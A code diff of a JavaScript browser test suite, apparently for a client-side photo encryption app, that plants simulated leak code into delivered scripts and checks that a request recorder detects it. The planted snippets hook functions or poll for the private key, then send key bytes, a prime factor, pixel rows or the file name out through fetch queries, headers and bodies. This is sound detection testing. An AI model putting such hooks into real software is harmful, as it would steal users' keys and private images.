@@ -16,19 +16,62 @@ import { join } from 'node:path';
 const FILE = 'Überfahrt nach Vardø, geheim-7c1e.png';
 
 // What the recorder appends to a delivered script, and what the search must then find.
-const whenThereIsAKey = (leak) => `;{ const t = setInterval(() => { if (!key) return; clearInterval(t); ${leak} }, 20); }`;
-const primeHex = "[...key.toBytes().subarray(34, 34 + key.bits / 16)].reverse().map((b) => b.toString(16).padStart(2, '0')).join('')";
+const inKeeper = (leak) => `
+  const spying = setInterval(() => {
+    if (!key) return;
+    clearInterval(spying);
+    const bytes = key.toBytes();
+    const prime = [...bytes.subarray(34, 34 + key.bits / 16)].reverse();
+    const primeHex = prime.map((byte) => byte.toString(16).padStart(2, '0')).join('');
+    ${leak}
+  }, 20);`;
 const leaks = [
-  ['the key file, as it is', '/keeper.js', whenThereIsAKey("fetch('/v1', { method: 'POST', body: key.toBytes() });"), /key file/],
-  ['a prime in hexadecimal in a query', '/keeper.js', whenThereIsAKey(`fetch('/favicon.svg?v=' + ${primeHex});`), /prime p/],
-  ['a prime in decimal in a header', '/keeper.js', whenThereIsAKey(`fetch('/v1', { headers: { 'X-Trace': BigInt('0x' + ${primeHex}).toString() } });`), /prime p in decimal/],
-  ['half of the key file, shifted, in base64', '/keeper.js', whenThereIsAKey("fetch('/v1', { method: 'POST', body: 'x=' + btoa('?' + String.fromCharCode(...key.toBytes().subarray(90, 150))) });"), /key file|prime/],
-  ['a row of pixels in base64', '/compute.js',
-    ";{ const plain = ops.encryptor; ops.encryptor = (job) => { fetch('/v1?t=' + encodeURIComponent(btoa(String.fromCharCode(...job.photo.samples.subarray(300, 360))))); return plain(job); }; }", /pixels/],
-  ['a row of the result as a list of numbers', '/keeper.js',
-    ";{ const plain = ops.decrypt; ops.decrypt = async function (...job) { const done = await plain.apply(this, job); fetch('/v1', { method: 'POST', body: JSON.stringify([...done.rgba.subarray(400, 480)]) }); return done; }; }", /pixels/],
-  ['the file’s name in a header', '/client.js',
-    ";{ const plain = Client.prototype.process; Client.prototype.process = function (file, options) { fetch('/v1', { headers: { 'X-Name': encodeURIComponent(file.name) } }); return plain.call(this, file, options); }; }", /text/],
+  ['the key file, as it is', '/keeper.js', inKeeper("fetch('/v1', { method: 'POST', body: bytes });"), /key file/],
+  ['a prime in hexadecimal in a query', '/keeper.js', inKeeper("fetch('/favicon.svg?v=' + primeHex);"), /prime p/],
+  [
+    'a prime in decimal in a header',
+    '/keeper.js',
+    inKeeper("fetch('/v1', { headers: { 'X-Trace': String(BigInt('0x' + primeHex)) } });"),
+    /prime p in decimal/,
+  ],
+  [
+    'a part of the key file, shifted, in base64',
+    '/keeper.js',
+    inKeeper("fetch('/v1?x=' + btoa('?' + String.fromCharCode(...bytes.subarray(90, 150))));"),
+    /key file|prime/,
+  ],
+  [
+    'a row of pixels in base64',
+    '/compute.js',
+    `const plain = ops.encryptor;
+     ops.encryptor = (job) => {
+       const row = String.fromCharCode(...job.photo.samples.subarray(300, 360));
+       fetch('/v1?t=' + encodeURIComponent(btoa(row)));
+       return plain(job);
+     };`,
+    /pixels/,
+  ],
+  [
+    'a row of the result as a list of numbers',
+    '/keeper.js',
+    `const plain = ops.decrypt;
+     ops.decrypt = async function (...job) {
+       const done = await plain.apply(this, job);
+       fetch('/v1', { method: 'POST', body: JSON.stringify([...done.rgba.subarray(400, 480)]) });
+       return done;
+     };`,
+    /pixels/,
+  ],
+  [
+    'the file’s name in a header',
+    '/client.js',
+    `const plain = Client.prototype.process;
+     Client.prototype.process = function (file, options) {
+       fetch('/v1', { headers: { 'X-Name': encodeURIComponent(file.name) } });
+       return plain.call(this, file, options);
+     };`,
+    /text/,
+  ],
 ];
 
 for (const name of browsers) {
@@ -38,14 +81,21 @@ for (const name of browsers) {
       assert.deepEqual(found, []);
       assert.deepEqual(publicFound, ['modulus n'], 'the recorder must have seen the encrypted photo');
       const elsewhere = recorder.requests.filter((line) => !line.includes('http://127.0.0.1:'));
-      console.log(`${name}: ${recorder.requests.length} requests recorded, ${elsewhere.length} refused ones of the browser itself`);
+      console.log(
+        `${name}: ${recorder.requests.length} requests recorded, ${elsewhere.length} refused ones of the browser itself`,
+      );
       assert.ok(recorder.requests.some((line) => line.startsWith('POST') && line.includes('/v1/filters/mean')));
     });
 
     for (const [title, path, code, wanted] of leaks) {
       it(`finds a planted leak: ${title}`, async () => {
-        const { found } = await recordedVisit(name, (delivered, text) => (delivered === path ? text + code : text));
-        assert.ok(found.some((secret) => wanted.test(secret)), `found only: ${found}`);
+        const { found } = await recordedVisit(name, (delivered, text) =>
+          delivered === path ? `${text}\n;${code}` : text,
+        );
+        assert.ok(
+          found.some((secret) => wanted.test(secret)),
+          `found only: ${found}`,
+        );
       });
     }
   });
@@ -69,7 +119,10 @@ async function recordedVisit(name, rewrite) {
     await page.saved('picture', 0);
     const key = await page.saved('save-key');
     await page.click('forget-key');
-    await page.until(() => document.querySelector('[data-testid="fingerprint"]').textContent === '', 'the key to be forgotten');
+    await page.until(
+      () => document.querySelector('[data-testid="fingerprint"]').textContent === '',
+      'the key to be forgotten',
+    );
 
     const publicKey = join(folder(), 'key.pub');
     await cli('pubkey', key.path, '--out', publicKey);
@@ -96,9 +149,15 @@ function rows(photo) {
   const { width, height, channels, data } = photo;
   const { planes, alpha } = split(photo);
   const colours = Uint8Array.from({ length: 3 * width * height }, (_, i) => planes[i % 3][Math.floor(i / 3)]);
-  const grey = Uint8Array.from(planes[0], (_, i) => Math.round(0.299 * planes[0][i] + 0.587 * planes[1][i] + 0.114 * planes[2][i]));
+  const grey = Uint8Array.from(planes[0], (_, i) =>
+    Math.round(0.299 * planes[0][i] + 0.587 * planes[1][i] + 0.114 * planes[2][i]),
+  );
   const cut = (samples, line) => Array.from({ length: height }, (_, y) => samples.subarray(y * line, (y + 1) * line));
   return [
-    ...cut(data, width * channels), ...cut(colours, width * 3), ...cut(grey, width), ...cut(alpha, width),
-    ...planes.flatMap((plane) => cut(plane, width))];
+    ...cut(data, width * channels),
+    ...cut(colours, width * 3),
+    ...cut(grey, width),
+    ...cut(alpha, width),
+    ...planes.flatMap((plane) => cut(plane, width)),
+  ];
 }
